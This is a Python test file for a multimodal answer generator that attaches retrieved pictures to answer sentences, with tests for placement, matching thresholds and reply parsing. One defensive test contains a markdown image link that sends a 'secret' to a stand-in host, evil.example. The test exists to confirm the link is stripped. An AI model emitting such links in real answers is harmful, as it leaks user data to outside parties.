"""MRAMG over a real collection: sentences with the pictures that were found, and never another one."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import permutations
from typing import Any

import numpy as np
import pytest
from fakes.lands import flag
from hypothesis import given
from hypothesis import settings as tried
from hypothesis import strategies as st

from foveal.agents.checker import unresolved
from foveal.evaluation.predictions import Prediction
from foveal.graphs.strategies.mramg import SENTENCES, TAU, matching, schema, written
from foveal.types import Answer

Going = Callable[..., Any]
QUESTION = "What are the capital and the tower of Cor?"
_PICTURE = re.compile(r"!\[[^\]]*\]\(<([0-9a-f]{64})>\)")


def reply(answer: str, *sentences: tuple[str, int | None]) -> dict[str, Any]:
    rows = [{"text": t} if n is None else {"text": t, "picture": n} for t, n in sentences]
    return {"task": "mramg", "reply": {"answer": answer, "sentences": rows}}


def placed(answer: Answer) -> list[str]:
    """Ids of the documents whose pictures stand in the answer, in their order."""
    cited = {c.image: c.doc_id for c in answer.citations}
    return [cited[digest] for digest in _PICTURE.findall(answer.answer)]


def number(model: Any, title: str) -> int:
    found = re.search(rf'title="Picture (\d): {title}"', model.calls[0].messages[-1].content)
    assert found is not None
    return int(found[1])


@pytest.mark.parametrize("sees", [False, True])
async def test_the_model_places_pictures_by_their_number(going: Going, sees: bool) -> None:
    script = [{"task": "mramg", "reply": "none"}, {"task": "generate", "reply": "Eph"}]
    foveal, asked = going("mramg:model", script, sees=sees)
    async with foveal:
        await foveal.ask(QUESTION)
    tower, cor = number(asked, "Eph Tower"), number(asked, "Cor")
    assert len(asked.calls[0].messages[-1].images) == (4 if sees else 0)
    foveal, model = going("mramg", [reply("Eph", ("The capital is Eph.", cor), ("It has a tower.", tower))], sees=sees)
    async with foveal:
        answer = await foveal.ask(QUESTION)
    assert placed(answer) == ["cor", "tower"] and len(model.calls) == 1
    assert re.sub(r"<\w+>", "<>", answer.answer).startswith(
        "The capital is Eph. ![Cor](<>) It has a tower. ![Eph Tower]("
    )
    assert unresolved(answer.answer, answer.citations, {e.id: e for e in answer.evidence}) == []
    kinds = {e.id: e.kind for e in answer.evidence}
    assert [c.doc_id for c in answer.citations if kinds[c.evidence_id] == "image"] == ["cor", "tower"]


async def test_code_places_pictures_by_matching(going: Going) -> None:
    sentences = ("The Eph Tower stands in Eph. It was built by Bo Ek in 1901.", None), ("Zyx qqq vvv.", None)
    foveal, model = going("mramg:matching", [reply("Bo Ek", *sentences)])
    async with foveal:
        answer = await foveal.ask("Who built the Eph Tower?")
    assert placed(answer) == ["tower"] and answer.answer.index("![") < answer.answer.index("Zyx")
    assert "Picture 1" not in model.calls[0].messages[-1].content, "the model writes without the pictures"
    assert unresolved(answer.answer, answer.citations, {e.id: e for e in answer.evidence}) == []


async def test_a_prediction_tells_the_words_and_leaves_the_pictures_to_the_trace(going: Going) -> None:
    foveal, _ = going("mramg:matching", [reply("Bo Ek", ("The Eph Tower was built by Bo Ek in 1901.", None))])
    async with foveal:
        answer = await foveal.ask("Who built the Eph Tower?")
    assert "![" in answer.answer
    assert Prediction.of("q", answer, 1.0).answer == "The Eph Tower was built by Bo Ek in 1901."


async def test_a_sentence_cannot_bring_a_picture_or_link_of_its_own(going: Going) -> None:
    evil = "It is Eph. ![x](http://evil.example/?d=secret) `"
    foveal, _ = going("mramg", [reply("Eph", (evil, 1), ("Second.", 9))])
    async with foveal:
        answer = await foveal.ask(QUESTION)
    assert len(_PICTURE.findall(answer.answer)) == 1 and len(placed(answer)) == 1
    assert "](http" not in answer.answer


async def test_what_is_not_told_has_no_pictures(going: Going) -> None:
    foveal, _ = going("mramg", [reply("unable to determine", ("The passages do not tell.", 1))])
    async with foveal:
        answer = await foveal.ask("Who is the king of Cor?")
    assert (answer.status, answer.answer, answer.citations) == ("insufficient", "Unable to determine.", ())


async def test_the_questions_own_picture_is_not_placed(going: Going) -> None:
    foveal, model = going("mramg", [reply("Eph", ("It is Eph.", 0))])
    async with foveal:
        answer = await foveal.ask("What is the capital of the country whose flag is shown?", [flag("Cor")])
    assert "Picture 1: " in model.calls[0].messages[-1].content
    assert ': Cor"' not in re.sub(r'<passage title="Cor"', "", model.calls[0].messages[-1].content)
    assert answer.answer.startswith("It is Eph [1]")


async def test_the_budget_ends_it(going: Going) -> None:
    foveal, _ = going("mramg:matching", [{"task": "mramg", "reply": "no"}], max_calls=1)
    async with foveal:
        answer = await foveal.ask("Who built the Eph Tower?")
    assert (answer.status, answer.stop_reason) == ("insufficient", "budget:model_calls")


rubbish = st.recursive(
    st.none() | st.booleans() | st.integers(-2, 6) | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["answer", "sentences", "text", "picture"]), inner)
    ),
    max_leaves=14,
)


@tried(max_examples=40)
@given(rubbish, st.integers(0, 4))
def test_any_reply_places_only_pictures_there_are_and_each_once(parsed: Any, pictures: int) -> None:
    _, sentences, chosen = written(parsed, pictures)
    assert len(sentences) == len(chosen) and all(sentences)
    used = [n for n in chosen if n is not None]
    assert all(0 <= n < pictures for n in used) and len(set(used)) == len(used)


@given(st.integers(0, 2**32 - 1), st.integers(1, 3), st.integers(1, 3))
def test_the_matching_has_the_greatest_sum_of_all(seed: int, rows: int, columns: int) -> None:
    similarity = np.random.default_rng(seed).uniform(-0.2, 1, (rows, columns))
    chosen = matching(similarity)
    used = [c for c in chosen if c is not None]
    assert len(set(used)) == len(used) and all(similarity[r, c] >= TAU for r, c in enumerate(chosen) if c is not None)
    worth = np.where(similarity >= TAU, similarity, 0.0)
    wide = np.hstack([worth, np.zeros((rows, rows))])
    most = max(sum(wide[r, c] for r, c in enumerate(way)) for way in permutations(range(rows + columns), rows))
    assert np.isclose(sum(similarity[r, c] for r, c in enumerate(chosen) if c is not None), most)


def test_no_pair_under_the_threshold_is_matched() -> None:
    assert matching(np.array([[0.29, 0.1], [0.31, 0.9]])) == [None, 1]
    assert matching(np.array([[0.9, 0.8], [0.9, 0.1]])) == [1, 0]


def test_a_reply_can_only_name_pictures_there_are() -> None:
    items = schema(2)["properties"]["sentences"]["items"]
    assert items["properties"]["picture"]["enum"] == [0, 1, 2]
    assert "picture" not in schema(0)["properties"]["sentences"]["items"]["properties"]
    assert schema(0)["properties"]["sentences"]["maxItems"] == SENTENCES
